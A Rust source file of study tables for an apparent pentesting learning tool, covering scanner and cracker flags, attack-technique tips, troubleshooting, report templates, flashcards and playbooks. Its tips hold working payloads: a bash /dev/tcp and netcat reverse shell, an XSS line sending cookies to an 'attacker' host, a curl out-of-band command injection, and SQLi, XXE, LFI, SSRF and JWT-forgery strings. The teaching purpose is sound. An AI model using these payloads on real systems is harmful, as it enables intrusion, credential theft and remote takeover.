//! Static study content tables.
//!
//! Keys are lower-case phrases; declared order is the retrieval tie-break.

use super::ExplainEntry;

// Network scanning / web enumeration / exploitation / cracking tools.
pub static EXPLAIN_ENTRIES: &[(&str, ExplainEntry)] = &[
    (
        "nmap",
        ExplainEntry {
            base: "Network Mapper - powerful port scanner and service detection tool",
            flags: &[
                (
                    "-sV",
                    "Version detection: probe open ports to determine service/version info",
                ),
                (
                    "-sS",
                    "SYN scan (stealth): send SYN packets without completing TCP handshake",
                ),
                (
                    "-sT",
                    "TCP connect scan: complete TCP handshake (more reliable, less stealth)",
                ),
                (
                    "-sU",
                    "UDP scan: check for open UDP ports (slow, often needs root)",
                ),
                (
                    "-Pn",
                    "Skip ping: treat all hosts as online (bypass ICMP filtering)",
                ),
                (
                    "-A",
                    "Aggressive scan: enables OS detection, version detection, script scanning, traceroute",
                ),
                (
                    "-T",
                    "Timing template: T0 (paranoid) to T5 (insane), affects scan speed",
                ),
                ("-p", "Port specification: -p 80,443 or -p- for all ports"),
                (
                    "--script",
                    "Run NSE (Nmap Scripting Engine) scripts for advanced detection",
                ),
                ("-oN/-oX/-oG", "Output formats: normal, XML, greppable"),
            ],
            usage: "Use for: Initial reconnaissance, service enumeration, vulnerability detection",
            caution: "Can trigger IDS/IPS. Start with -T2 or -T3 in shared environments",
        },
    ),
    (
        "masscan",
        ExplainEntry {
            base: "Ultra-fast port scanner (faster than nmap for large ranges)",
            flags: &[
                ("-p", "Port specification: can scan all 65535 ports in minutes"),
                ("--rate", "Packet transmission rate (packets per second)"),
                ("-e", "Interface to use"),
            ],
            usage: "Use for: Quick discovery on large IP ranges, initial sweep",
            caution: "Very noisy! Can crash weak network infrastructure. Use low rates in labs",
        },
    ),
    (
        "gobuster",
        ExplainEntry {
            base: "Directory/file brute-forcing tool written in Go",
            flags: &[
                ("dir", "Directory brute-forcing mode"),
                ("dns", "DNS subdomain enumeration mode"),
                ("vhost", "Virtual host brute-forcing mode"),
                ("-u", "Target URL"),
                ("-w", "Wordlist path (e.g., /usr/share/wordlists/dirb/common.txt)"),
                ("-t", "Number of threads (default 10)"),
                ("-x", "File extensions to search for (e.g., -x php,html,txt)"),
                ("-k", "Skip SSL certificate verification"),
                ("-b", "Blacklist response codes (e.g., -b 404)"),
            ],
            usage: "Use for: Finding hidden endpoints, admin panels, backup files",
            caution: "Generates significant traffic. Use small wordlists for stealth",
        },
    ),
    (
        "ffuf",
        ExplainEntry {
            base: "Fast web fuzzer written in Go",
            flags: &[
                ("-u", "Target URL with FUZZ keyword placeholder"),
                ("-w", "Wordlist path"),
                ("-mc", "Match HTTP response codes"),
                ("-fc", "Filter HTTP response codes"),
                ("-fs", "Filter response size"),
                ("-t", "Number of threads"),
                ("-H", "Add custom header (e.g., -H \"Cookie: session=abc\")"),
            ],
            usage: "Use for: Directory fuzzing, parameter discovery, subdomain enumeration",
            caution: "Very fast. Can overwhelm servers. Start with lower thread count",
        },
    ),
    (
        "nikto",
        ExplainEntry {
            base: "Web server scanner that checks for dangerous files, outdated software, and misconfigurations",
            flags: &[
                ("-h", "Target host/URL"),
                ("-p", "Port to scan (default 80)"),
                ("-ssl", "Force SSL mode"),
                ("-Tuning", "Tune tests (1=interesting files, 2=misconfig, etc.)"),
                ("-nossl", "Disable SSL"),
            ],
            usage: "Use for: Quick vulnerability assessment, finding known issues",
            caution: "Very noisy! Generates many requests. Not stealthy at all",
        },
    ),
    (
        "sqlmap",
        ExplainEntry {
            base: "Automatic SQL injection and database takeover tool",
            flags: &[
                ("-u", "Target URL"),
                ("--data", "POST data string"),
                ("--cookie", "HTTP Cookie header value"),
                ("--dbs", "Enumerate databases"),
                ("--tables", "Enumerate tables"),
                ("--dump", "Dump table data"),
                ("--risk", "Risk level (1-3, higher = more dangerous tests)"),
                ("--level", "Level of tests (1-5, higher = more comprehensive)"),
                ("--batch", "Non-interactive mode (accept defaults)"),
                (
                    "--technique",
                    "SQL injection technique (B=Boolean, T=Time, E=Error, U=Union, S=Stacked)",
                ),
                ("--tamper", "Use tamper scripts to evade WAF"),
            ],
            usage: "Use for: Automated SQLi testing and exploitation",
            caution: "Very aggressive! Only use on authorized targets. Can modify database",
        },
    ),
    (
        "metasploit",
        ExplainEntry {
            base: "Comprehensive exploitation framework",
            flags: &[
                ("msfconsole", "Main Metasploit console interface"),
                ("search", "Search for exploits/modules"),
                ("use", "Select a module"),
                ("show options", "Display module options"),
                ("set", "Set option value"),
                ("exploit", "Run the exploit"),
                ("sessions", "List active sessions"),
            ],
            usage: "Use for: Exploitation, post-exploitation, payload generation",
            caution: "Real exploitation! Ensure authorization. Can crash services",
        },
    ),
    (
        "john",
        ExplainEntry {
            base: "John the Ripper - fast password cracker",
            flags: &[
                ("--wordlist", "Wordlist file (e.g., rockyou.txt)"),
                ("--rules", "Enable word mangling rules"),
                ("--format", "Hash format (e.g., md5, sha256, bcrypt)"),
                ("--show", "Show cracked passwords"),
                ("--incremental", "Brute-force mode"),
                ("--single", "Single crack mode (uses username variations)"),
            ],
            usage: "Use for: Password hash cracking, testing password strength",
            caution: "CPU/GPU intensive. Can take hours to days",
        },
    ),
    (
        "hashcat",
        ExplainEntry {
            base: "Advanced password recovery tool (GPU-accelerated)",
            flags: &[
                ("-m", "Hash type (0=MD5, 1000=NTLM, 3200=bcrypt, etc.)"),
                (
                    "-a",
                    "Attack mode (0=straight, 1=combination, 3=brute-force, 6=hybrid)",
                ),
                ("-o", "Output file for cracked hashes"),
                ("--force", "Ignore warnings"),
                ("-w", "Workload profile (1=low, 2=default, 3=high, 4=nightmare)"),
                ("-r", "Rules file"),
                ("--show", "Show cracked passwords"),
            ],
            usage: "Use for: Fast GPU-based password cracking",
            caution: "Requires GPU. Check hash mode list carefully",
        },
    ),
    (
        "hydra",
        ExplainEntry {
            base: "Network logon cracker, supports many protocols",
            flags: &[
                ("-l", "Single username"),
                ("-L", "Username list file"),
                ("-p", "Single password"),
                ("-P", "Password list file"),
                ("-t", "Number of parallel tasks"),
                ("-V", "Verbose output"),
                ("-f", "Exit after first valid password found"),
                (
                    "protocols",
                    "Supports: ssh, ftp, http-post, http-get, smb, rdp, etc.",
                ),
            ],
            usage: "Use for: Brute-forcing login credentials",
            caution: "Noisy! Account lockouts are common. Use rate limiting",
        },
    ),
    (
        "netcat",
        ExplainEntry {
            base: "Network Swiss Army knife (nc)",
            flags: &[
                ("-l", "Listen mode"),
                ("-p", "Port number"),
                ("-v", "Verbose"),
                ("-n", "No DNS resolution"),
                ("-e", "Execute command (dangerous!)"),
            ],
            usage: "Use for: Banner grabbing, simple file transfers, backdoors",
            caution: "Many netcat variants exist. Check available flags",
        },
    ),
    (
        "curl",
        ExplainEntry {
            base: "Command-line tool for transferring data with URLs",
            flags: &[
                ("-X", "HTTP method (GET, POST, PUT, DELETE, etc.)"),
                ("-H", "Add header"),
                ("-d", "POST data"),
                ("-b", "Send cookies"),
                ("-c", "Save cookies"),
                ("-k", "Insecure (skip SSL verification)"),
                ("-v", "Verbose output"),
                ("-i", "Include response headers"),
                ("-o", "Output to file"),
            ],
            usage: "Use for: Testing APIs, downloading files, debugging HTTP",
            caution: "URL encoding required for special characters",
        },
    ),
    (
        "wireshark",
        ExplainEntry {
            base: "Network protocol analyzer with GUI",
            flags: &[
                (
                    "filters",
                    "Display filters (e.g., http, tcp.port==80, ip.addr==192.168.1.1)",
                ),
                ("tshark", "Command-line version of Wireshark"),
                ("-r", "Read capture file"),
                ("-w", "Write capture file"),
            ],
            usage: "Use for: Network traffic analysis, protocol debugging",
            caution: "Can capture sensitive data. Handle pcaps securely",
        },
    ),
    (
        "burp suite",
        ExplainEntry {
            base: "Industry-standard web application security testing platform with comprehensive proxy, scanner, and manual testing tools",
            flags: &[
                (
                    "proxy",
                    "Intercept and modify HTTP/S traffic between browser and target",
                ),
                ("repeater", "Manually manipulate and resend individual requests"),
                (
                    "intruder",
                    "Automated customized attacks with position markers and payload lists",
                ),
                (
                    "scanner",
                    "Automated vulnerability scanning (Professional version only)",
                ),
                (
                    "decoder",
                    "Encode/decode data in various formats (Base64, URL, HTML, etc.)",
                ),
                (
                    "comparer",
                    "Visual diff tool to compare responses and find subtle differences",
                ),
                ("extensions", "Extend functionality with BApp Store plugins"),
            ],
            usage: "Use for: Web app pentesting, API testing, manual security testing, traffic analysis",
            caution: "Professional version required for scanner. Free version has limited features. Install CA certificate for HTTPS interception",
        },
    ),
    (
        "linpeas",
        ExplainEntry {
            base: "Linux Privilege Escalation Awesome Script",
            flags: &[("-a", "All checks"), ("-q", "Quiet mode")],
            usage: "Use for: Quick privilege escalation enumeration on Linux",
            caution: "Generates significant output. Review carefully",
        },
    ),
];

// Study guides per technique or topic.
pub static TIP_ENTRIES: &[(&str, &str)] = &[
    (
        "sql injection",
        "• Look for ' or \" in inputs to trigger SQL errors\n\
         • Test with: ' OR '1'='1 -- (boolean bypass)\n\
         • Use UNION SELECT to extract data: ' UNION SELECT null,username,password FROM users--\n\
         • Check INFORMATION_SCHEMA for table/column names\n\
         • sqlmap automates testing but manual is better for learning\n\
         • Always test login pages, search boxes, and URL parameters",
    ),
    (
        "xss",
        "• Test reflected: <script>alert(1)</script> in URL params\n\
         • Look for DOM-based: Check JavaScript that processes URL fragments\n\
         • Stored XSS is most dangerous: persists in database\n\
         • Bypass filters: <img src=x onerror=alert(1)>\n\
         • Check for CSP (Content Security Policy) in response headers\n\
         • Cookie theft: document.location='http://attacker/?c='+document.cookie",
    ),
    (
        "command injection",
        "• Test with: ; ls, && whoami, | id, `whoami`\n\
         • URL encode special chars if needed: %3B for ;\n\
         • Blind testing: ; sleep 5 (check response time)\n\
         • Out-of-band: ; curl http://your-server/$(whoami)\n\
         • Common injection points: ping commands, file uploads, system utilities\n\
         • Look for unescaped user input in system() calls",
    ),
    (
        "lfi",
        "• Local File Inclusion: read arbitrary files\n\
         • Test with: ../../../etc/passwd (path traversal)\n\
         • PHP wrappers: php://filter/convert.base64-encode/resource=index.php\n\
         • Log poisoning: Inject PHP code into logs, then include log file\n\
         • Common targets: /etc/passwd, /var/log/apache2/access.log, config files\n\
         • Null byte bypass (old PHP): file.php%00.jpg",
    ),
    (
        "ssrf",
        "• Server-Side Request Forgery: make server fetch attacker URL\n\
         • Test with: http://127.0.0.1, http://localhost, http://169.254.169.254\n\
         • AWS metadata: http://169.254.169.254/latest/meta-data/\n\
         • Bypass blacklists: Use 127.1, 0.0.0.0, [::1], octal/hex encoding\n\
         • Look for: URL parameters, image processing, webhooks, PDF generators\n\
         • Combine with port scanning: http://internal-host:8080",
    ),
    (
        "csrf",
        "• Cross-Site Request Forgery: trick user into unwanted action\n\
         • Check for: missing anti-CSRF tokens\n\
         • Test: Remove/change token value, use token from another session\n\
         • Look at state-changing actions: password change, email update, transfers\n\
         • SameSite cookie attribute helps prevent CSRF\n\
         • Create POC: Auto-submitting form or JavaScript fetch()",
    ),
    (
        "idor",
        "• Insecure Direct Object Reference: access other users' data\n\
         • Change IDs in URLs: /user/123 -> /user/124\n\
         • Test UUIDs: sometimes predictable or enumerable\n\
         • Check API endpoints: /api/document/567\n\
         • Look for: user_id, doc_id, account_id in requests\n\
         • Combine with account enumeration for target IDs",
    ),
    (
        "xxe",
        "• XML External Entity: exploit XML parsers\n\
         • Basic payload: <!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n\
         • Blind XXE: Exfiltrate via HTTP request to your server\n\
         • PHP wrapper: php://filter/convert.base64-encode/resource=/etc/passwd\n\
         • Check for: XML input (SOAP, RSS, SVG upload, Office docs)\n\
         • Modern parsers often have XXE disabled by default",
    ),
    (
        "buffer overflow",
        "• Overflow fixed-size buffer to overwrite adjacent memory\n\
         • Stack-based: Overwrite return address to hijack control flow\n\
         • Heap-based: Overwrite heap metadata or function pointers\n\
         • Find vuln: inputs without length checks (strcpy, gets)\n\
         • Exploitation: Calculate offset, craft payload with shellcode\n\
         • Protections: ASLR, DEP/NX, stack canaries, PIE",
    ),
    (
        "privilege escalation",
        "• Linux: sudo -l, SUID binaries, kernel exploits, cron jobs, writable files\n\
         • Windows: unquoted service paths, weak permissions, AlwaysInstallElevated, tokens\n\
         • Automated: linpeas.sh, winPEAS.exe, linux-exploit-suggester\n\
         • Credentials: history files, config files, memory, database\n\
         • GTFOBins: abuse SUID binaries (find, vim, python, etc.)\n\
         • Check: groups, capabilities, scheduled tasks",
    ),
    (
        "nmap",
        "• Start with: nmap -sV -sC -p- target.com -oN scan.txt\n\
         • Service version: -sV (detect versions)\n\
         • Default scripts: -sC (safe NSE scripts)\n\
         • All ports: -p- (slow but thorough)\n\
         • Timing: -T2 (polite) to -T4 (aggressive)\n\
         • Stealthy: -sS (SYN scan) or -Pn (skip ping)",
    ),
    (
        "burp suite",
        "• Proxy: Intercept and modify HTTP traffic\n\
         • Repeater: Manually test payloads (Ctrl+R from Proxy)\n\
         • Intruder: Automated fuzzing (positions, payloads, attack types)\n\
         • Comparer: Diff responses to find subtle differences\n\
         • Decoder: Encode/decode various formats\n\
         • Extensions: Logger++, Autorize, Active Scan++",
    ),
    (
        "password cracking",
        "• Identify hash type: hashid, hash-identifier\n\
         • Common hashes: MD5, SHA-1, NTLM, bcrypt\n\
         • John: john --wordlist=rockyou.txt --format=raw-md5 hashes.txt\n\
         • Hashcat: hashcat -m 0 hashes.txt rockyou.txt (0=MD5)\n\
         • Rules: Apply mutations (john --rules, hashcat -r rules.txt)\n\
         • GPU acceleration: hashcat is much faster than john with GPU",
    ),
    (
        "reverse shell",
        "• Bash: bash -i >& /dev/tcp/10.10.10.10/4444 0>&1\n\
         • Python: python -c 'import socket...' (use revshells.com)\n\
         • Netcat: nc -e /bin/bash 10.10.10.10 4444\n\
         • Listener: nc -lvnp 4444 (on attacker machine)\n\
         • Upgrade TTY: python -c 'import pty;pty.spawn(\"/bin/bash\")'\n\
         • Stabilize: Ctrl+Z, stty raw -echo; fg, export TERM=xterm",
    ),
    (
        "web enumeration",
        "• Start: robots.txt, sitemap.xml, /.well-known/\n\
         • Directories: gobuster, ffuf, dirsearch with good wordlists\n\
         • Subdomains: subfinder, amass, crt.sh, DNS brute-force\n\
         • Tech stack: Wappalyzer, whatweb, builtwith\n\
         • Headers: Check X-Powered-By, Server, Set-Cookie\n\
         • Test: common endpoints (/admin, /api, /backup, /test, /dev)",
    ),
    (
        "jwt",
        "• JSON Web Tokens: check algorithm, signature, claims\n\
         • None algorithm: Change \"alg\":\"HS256\" to \"alg\":\"none\", remove signature\n\
         • Key confusion: RS256 to HS256 (use public key as symmetric secret)\n\
         • Weak secret: Brute-force HMAC secret with jwt_tool or hashcat\n\
         • Claims: Modify user_id, role, exp (expiration)\n\
         • Verify signature is actually checked server-side",
    ),
];

// Troubleshooting checklists per error message or symptom.
pub static ASSIST_ENTRIES: &[(&str, &str)] = &[
    (
        "connection refused",
        "• Target host/service may be down\n\
         • Check IP address and port number (typos?)\n\
         • Ensure you're on the correct network/VPN\n\
         • Firewall may be blocking the connection\n\
         • Service might not be running (check with nmap first)\n\
         • For VMs: ensure VM networking is configured (NAT vs Bridged)",
    ),
    (
        "permission denied",
        "• Command requires elevated privileges (try sudo)\n\
         • File/directory has restrictive permissions (check with ls -la)\n\
         • For packet capture: need root (sudo tcpdump, sudo wireshark)\n\
         • Raw sockets need CAP_NET_RAW capability\n\
         • SELinux/AppArmor may be blocking (check logs)\n\
         • Check user groups (usermod -aG)",
    ),
    (
        "timeout",
        "• Host is up but not responding (firewall filtering?)\n\
         • Service is slow or overloaded\n\
         • Network latency is high\n\
         • Increase timeout value (--timeout flag)\n\
         • For web: server might be rate-limiting\n\
         • Check if you're being blocked",
    ),
    (
        "hash not found",
        "• Verify hash format (use hashid)\n\
         • Check you're using correct mode (-m for hashcat, --format for john)\n\
         • Ensure no extra whitespace or newlines\n\
         • Hash might require specific format (username:hash, hash:salt, etc.)\n\
         • Verify hash is actually in wordlist\n\
         • Try with rules or try mask attack",
    ),
    (
        "sqlmap no injection",
        "• Parameter might not be vulnerable\n\
         • Use correct HTTP method (GET vs POST)\n\
         • Include cookies/headers if authenticated\n\
         • Try higher --level and --risk\n\
         • Check for WAF (--identify-waf)\n\
         • Manual testing might reveal what sqlmap misses\n\
         • Specify injection point with *",
    ),
    (
        "burp certificate error",
        "• Browser doesn't trust Burp's CA certificate\n\
         • Install Burp CA: Proxy tab → Import/Export CA cert → Install in browser\n\
         • Firefox: Settings → Certificates → Import\n\
         • Chrome: Settings → Privacy → Certificates → Import\n\
         • For mobile: Install certificate on device\n\
         • Check proxy settings: 127.0.0.1:8080",
    ),
    (
        "nmap scan too slow",
        "• Default timing is slow (-T3)\n\
         • Increase: -T4 (aggressive but faster)\n\
         • Reduce port range: -p 80,443 instead of -p-\n\
         • Skip host discovery: -Pn\n\
         • Parallel scanning: --min-parallelism 100\n\
         • Scan top ports only: --top-ports 1000\n\
         • Avoid: -sV, -sC, --script if you need speed",
    ),
    (
        "gobuster too many 404",
        "• Webserver returns 200 for non-existent pages\n\
         • Use -b 404,403 to blacklist codes\n\
         • Use -s 200,204,301,302,307,401 to whitelist codes\n\
         • Filter by size: -exclude-length 1234\n\
         • Check one URL manually to understand response\n\
         • Try different wordlist\n\
         • Use ffuf with -fc (filter code) instead",
    ),
    (
        "command not found",
        "• Tool is not installed (apt install / brew install)\n\
         • Tool is not in PATH (use full path like /usr/bin/tool)\n\
         • Check if installed: which TOOL, dpkg -l | grep TOOL\n\
         • For scripts: ensure execute permissions (chmod +x)\n\
         • Python tools: might need python3 script.py\n\
         • Kali: most tools pre-installed",
    ),
    (
        "reverse shell not connecting",
        "• Firewall blocking your listener port\n\
         • Ensure listener is running (nc -lvnp PORT)\n\
         • Check LHOST IP is correct (show interfaces if multi-homed)\n\
         • NAT/routing issues (use public IP if needed)\n\
         • Payload not executing (check web logs, errors)\n\
         • Try different port (80, 443 less likely blocked)\n\
         • Try different shell type (python, perl, netcat)",
    ),
    (
        "ssh key permissions",
        "• Private key too open: chmod 600 id_rsa\n\
         • Directory must be 700: chmod 700 ~/.ssh\n\
         • Authorized_keys: chmod 644 ~/.ssh/authorized_keys\n\
         • Wrong ownership: chown user:user ~/.ssh/*\n\
         • Error: \"WARNING: UNPROTECTED PRIVATE KEY FILE!\"\n\
         • Ensure key format is correct (OpenSSH vs PuTTY)",
    ),
];

// Micro-report exemplars: Vulnerability / Impact / Mitigation.
pub static REPORT_ENTRIES: &[(&str, &str)] = &[
    (
        "sql injection",
        "Vulnerability: SQL Injection in login form (username parameter)\n\
         Impact: Attacker can bypass authentication, extract sensitive database contents including user credentials, modify/delete data, and potentially execute system commands\n\
         Mitigation: Use prepared statements with parameterized queries, implement input validation, apply principle of least privilege to database accounts, use WAF as defense-in-depth",
    ),
    (
        "xss",
        "Vulnerability: Cross-Site Scripting (XSS) in comment field\n\
         Impact: Attacker can inject malicious JavaScript to steal session cookies, perform actions on behalf of users, redirect to phishing sites, or modify page content\n\
         Mitigation: Implement context-aware output encoding, use Content Security Policy (CSP) headers, sanitize user input, use HTTPOnly flag on session cookies",
    ),
    (
        "command injection",
        "Vulnerability: OS Command Injection in ping functionality\n\
         Impact: Attacker can execute arbitrary system commands, read sensitive files, establish reverse shells, pivot to internal network, and fully compromise the server\n\
         Mitigation: Avoid system calls with user input, use safe APIs/libraries, validate input against strict allowlist, implement sandboxing, apply least privilege",
    ),
    (
        "ssrf",
        "Vulnerability: Server-Side Request Forgery in image fetch functionality\n\
         Impact: Attacker can access internal services, cloud metadata endpoints (steal credentials), scan internal network, bypass firewalls, and potentially achieve RCE\n\
         Mitigation: Validate and sanitize URLs with strict allowlist, implement network segmentation, disable unnecessary protocols, use egress filtering, apply authentication to internal services",
    ),
    (
        "idor",
        "Vulnerability: Insecure Direct Object Reference in user profile endpoint\n\
         Impact: Attacker can access, modify, or delete other users' data by manipulating ID parameters, leading to data breach and privacy violations\n\
         Mitigation: Implement proper authorization checks, use indirect reference maps, validate user has permission to access requested resource, log all access attempts",
    ),
    (
        "authentication bypass",
        "Vulnerability: Authentication bypass via SQL injection in login form\n\
         Impact: Complete bypass of authentication mechanism allowing unauthorized access to user accounts including administrator accounts without knowing credentials\n\
         Mitigation: Use parameterized queries, implement multi-factor authentication, add account lockout mechanism, log and monitor failed authentication attempts, use secure session management",
    ),
    (
        "directory traversal",
        "Vulnerability: Path traversal vulnerability in file download feature\n\
         Impact: Attacker can access files outside intended directory including sensitive configuration files, source code, credentials, and system files\n\
         Mitigation: Validate file paths against allowlist, use canonicalization functions, restrict file system permissions, use chroot jails, avoid passing user input directly to file operations",
    ),
    (
        "sensitive data exposure",
        "Vulnerability: Sensitive data transmitted over unencrypted HTTP connection\n\
         Impact: Credentials, session tokens, and personal information can be intercepted via man-in-the-middle attacks, leading to account compromise and identity theft\n\
         Mitigation: Enforce HTTPS with HSTS headers, use TLS 1.2+, disable weak ciphers, implement certificate pinning, encrypt sensitive data at rest, never log sensitive information",
    ),
];

// Flashcards for active recall.
pub static QUIZ_ENTRIES: &[(&str, &str)] = &[
    (
        "sql injection",
        "Q: What does the SQL payload ' OR '1'='1'-- do?\n\
         A: Bypasses authentication by making WHERE clause always true, comments out rest of query\n\
         \n\
         Q: What SQL command reveals database structure?\n\
         A: UNION SELECT with INFORMATION_SCHEMA.TABLES and INFORMATION_SCHEMA.COLUMNS\n\
         \n\
         Q: How do you identify SQL injection vulnerability?\n\
         A: Input single quote ' and observe errors, or use time-based payloads like ' AND SLEEP(5)--",
    ),
    (
        "xss",
        "Q: What's the difference between reflected and stored XSS?\n\
         A: Reflected XSS executes immediately from URL/input; stored XSS persists in database affecting multiple users\n\
         \n\
         Q: Name a simple XSS payload that works in most contexts\n\
         A: <script>alert(1)</script> or <img src=x onerror=alert(1)>\n\
         \n\
         Q: What HTTP header helps prevent XSS?\n\
         A: Content-Security-Policy (CSP) restricts script sources and inline execution",
    ),
    (
        "buffer overflow",
        "Q: What does a stack buffer overflow typically overwrite?\n\
         A: Return address on the stack, redirecting program execution\n\
         \n\
         Q: Name two common protections against buffer overflows\n\
         A: ASLR (Address Space Layout Randomization) and DEP/NX (Data Execution Prevention)\n\
         \n\
         Q: What C function is notoriously vulnerable to buffer overflows?\n\
         A: strcpy() - copies without bounds checking (use strncpy instead)",
    ),
    (
        "password cracking",
        "Q: What's the difference between online and offline cracking?\n\
         A: Online requires authentication requests (slow, detectable); offline works on stolen hashes (fast, undetected)\n\
         \n\
         Q: What makes bcrypt better than MD5 for passwords?\n\
         A: Bcrypt is slow by design (configurable work factor) making brute-force impractical; MD5 is fast\n\
         \n\
         Q: What's a hybrid attack in password cracking?\n\
         A: Combines wordlist with rules/masks (e.g., password + digits)",
    ),
    (
        "networking",
        "Q: What's the difference between TCP and UDP?\n\
         A: TCP is connection-oriented, reliable, ordered; UDP is connectionless, fast, best-effort\n\
         \n\
         Q: What port does HTTPS use by default?\n\
         A: 443 (HTTP uses 80)\n\
         \n\
         Q: What does the three-way handshake establish?\n\
         A: TCP connection (SYN → SYN-ACK → ACK)",
    ),
    (
        "nmap",
        "Q: What's the difference between -sS and -sT?\n\
         A: -sS is SYN scan (stealthy, needs root); -sT is full TCP connect (works without root)\n\
         \n\
         Q: What does -Pn flag do?\n\
         A: Skips ping, treats all hosts as up (bypasses ICMP filtering)\n\
         \n\
         Q: What NSE script category is safest?\n\
         A: safe - unlikely to crash services or trigger alerts",
    ),
    (
        "privilege escalation",
        "Q: Name three ways to escalate privileges on Linux\n\
         A: SUID binaries, sudo misconfigs, kernel exploits, cron jobs, writable scripts in PATH\n\
         \n\
         Q: What does 'Unquoted Service Path' mean in Windows?\n\
         A: Service path with spaces and no quotes can be hijacked with malicious executable\n\
         \n\
         Q: What's GTFOBins?\n\
         A: Curated list of Unix binaries that can be exploited for privilege escalation",
    ),
    (
        "jwt",
        "Q: What are the three parts of a JWT?\n\
         A: Header (algorithm), Payload (claims), Signature (verification)\n\
         \n\
         Q: What's the 'none' algorithm vulnerability?\n\
         A: Server accepts unsigned tokens if alg:none, allowing forgery\n\
         \n\
         Q: What claim specifies JWT expiration?\n\
         A: exp (expiration time as Unix timestamp)",
    ),
];

// Next-steps playbooks per scenario.
pub static PLAN_ENTRIES: &[(&str, &str)] = &[
    (
        "found port 80 open",
        "1. Enumerate web service with nikto -h http://target or whatweb http://target\n\
         2. Check robots.txt, sitemap.xml, and common endpoints (/admin, /api, /.git)\n\
         3. Run directory brute-force with gobuster or ffuf using medium wordlist",
    ),
    (
        "found port 22 open",
        "1. Check SSH version with nc target 22 or nmap -sV\n\
         2. Test for weak credentials with hydra if authorized (small password list)\n\
         3. Look for SSH keys in other services or escalate from initial access",
    ),
    (
        "found web server",
        "1. Identify technology stack with Wappalyzer or whatweb\n\
         2. Browse manually to understand functionality and user roles\n\
         3. Test for common vulnerabilities (SQLi in login, XSS in inputs, IDOR in APIs)",
    ),
    (
        "found login page",
        "1. Test for SQL injection: ' OR '1'='1'-- in username/password\n\
         2. Check for default credentials (admin/admin, admin/password)\n\
         3. Examine JavaScript for client-side validation bypasses or exposed endpoints",
    ),
    (
        "got user shell",
        "1. Upgrade to stable TTY: python -c 'import pty;pty.spawn(\"/bin/bash\")'\n\
         2. Enumerate system: sudo -l, find / -perm -4000, check cron jobs\n\
         3. Download and run linpeas.sh for comprehensive privilege escalation checks",
    ),
    (
        "found hash",
        "1. Identify hash type with hashid -m hash or hash-identifier\n\
         2. Choose appropriate cracking tool and mode (hashcat -m N, john --format=)\n\
         3. Start with common wordlist (rockyou.txt) and consider rules if needed",
    ),
    (
        "sql injection confirmed",
        "1. Determine database type and column count (UNION SELECT NULL,NULL,...)\n\
         2. Extract database names (UNION SELECT schema_name FROM information_schema.schemata)\n\
         3. Enumerate tables and columns, then extract sensitive data (users, passwords)",
    ),
    (
        "xss found",
        "1. Test payload variation to bypass filters (event handlers, encoding, attribute injection)\n\
         2. Verify impact: Can you steal cookies? (document.cookie)\n\
         3. Craft POC for report and consider impact (stored vs reflected, who can trigger)",
    ),
    (
        "found api endpoint",
        "1. Test without authentication first (check response codes and errors)\n\
         2. Examine for IDOR by changing ID parameters (user_id, doc_id, etc.)\n\
         3. Test for mass assignment by adding extra JSON parameters",
    ),
    (
        "found credentials",
        "1. Test credentials on all discovered services (SSH, RDP, web portals, databases)\n\
         2. Try credential stuffing with variations (same password, different users)\n\
         3. Document where found and check for password reuse patterns",
    ),
    (
        "privilege escalation needed",
        "1. Run automated: linpeas.sh or winPEAS.exe\n\
         2. Check sudo -l, SUID binaries, writable files in PATH\n\
         3. Review cronjobs, systemd timers, and scheduled tasks",
    ),
    (
        "reverse shell received",
        "1. Stabilize shell: python -c 'import pty;pty.spawn(\"/bin/bash\")'\n\
         2. Background (Ctrl+Z), run: stty raw -echo; fg, then: export TERM=xterm\n\
         3. Begin enumeration: whoami, id, uname -a, ip addr",
    ),
];
